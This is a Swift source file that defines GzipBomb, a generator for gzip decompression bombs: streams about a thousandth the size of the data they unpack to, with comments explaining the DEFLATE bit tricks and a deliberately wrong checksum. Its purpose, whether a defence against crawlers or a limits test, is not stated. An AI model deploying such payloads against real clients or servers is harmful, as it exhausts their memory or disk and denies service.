/// A gzip stream a thousandth the size of what it unpacks to: one space, then copies of it.
///
/// A block with codes of its own writes 258 spaces in two zero bits, so all but the ends of the stream is zero bytes,
/// 1,032 spaces each, and a bomb of any size costs no memory. The checksum at its end is wrong: whoever reads that far has
/// unpacked everything already.
struct GzipBomb: Sendable {
  let start: [UInt8]
  /// How many zero bytes follow the start.
  let zeros: Int
  let end: [UInt8]

  var count: Int { start.count + zeros + end.count }

  /// - Parameter size: bytes after decompression, rounded up to a few more.
  init(size: Int) {
    zeros = (size + 1031) / 1032
    var writer = BitWriter(after: Gzip.header)
    Self.appendSpace(to: &writer)
    Self.appendCodes(to: &writer)
    // The codes end within a byte: its other bits are copies already, two bits each.
    let spareBits = writer.bitsToByte
    writer.padToByte()
    start = writer.bytes
    var tail = BitWriter()
    tail.append(0, count: spareBits % 2)
    tail.append(code: 0b10, count: 2)  // the end of the block
    tail.padToByte()
    let copies = (Int(spareBits) + 1) / 2 + zeros * 4
    end =
      tail.bytes + Gzip.littleEndian(0)
      + Gzip.littleEndian(UInt32(truncatingIfNeeded: 1 + copies * 258))
  }

  /// A block with the fixed codes that holds one space and nothing else.
  private static func appendSpace(to writer: inout BitWriter) {
    writer.append(0, count: 1)
    writer.append(1, count: 2)
    writer.append(code: 0x30 + 0x20, count: 8)
    writer.append(code: 0, count: 7)
  }

  /// The last block, with codes of its own (RFC 1951, 3.2.7): 0 for 258 bytes, 10 for the end, 0 for a distance of 1.
  private static func appendCodes(to writer: inout BitWriter) {
    writer.append(1, count: 1)
    writer.append(2, count: 2)
    writer.append(29, count: 5)  // 286 codes for literals and lengths
    writer.append(0, count: 5)  // one code for distances
    // The lengths of the codes below come in a fixed order: 16, 17, 18, 0, 8, …, 2, 14, 1. Used are 18, 2 and 1.
    writer.append(14, count: 4)  // 18 lengths
    let lengths: [Int: UInt32] = [2: 1, 15: 2, 17: 2]
    for place in 0..<18 { writer.append(lengths[place] ?? 0, count: 3) }
    // That makes 0 a run of zeros (18), 10 a length of 1 and 11 a length of 2.
    appendZeroRun(of: 138, to: &writer)
    appendZeroRun(of: 118, to: &writer)
    writer.append(code: 0b11, count: 2)  // 256, the end of the block: two bits
    appendZeroRun(of: 27, to: &writer)  // 257 to 283 are not used
    writer.append(code: 0b11, count: 2)  // 284, only there to make the codes complete
    writer.append(code: 0b10, count: 2)  // 285, a length of 258: one bit
    writer.append(code: 0b10, count: 2)  // a distance of 1: one bit
  }

  private static func appendZeroRun(of count: UInt32, to writer: inout BitWriter) {
    writer.append(code: 0, count: 1)
    writer.append(count - 11, count: 7)
  }
}
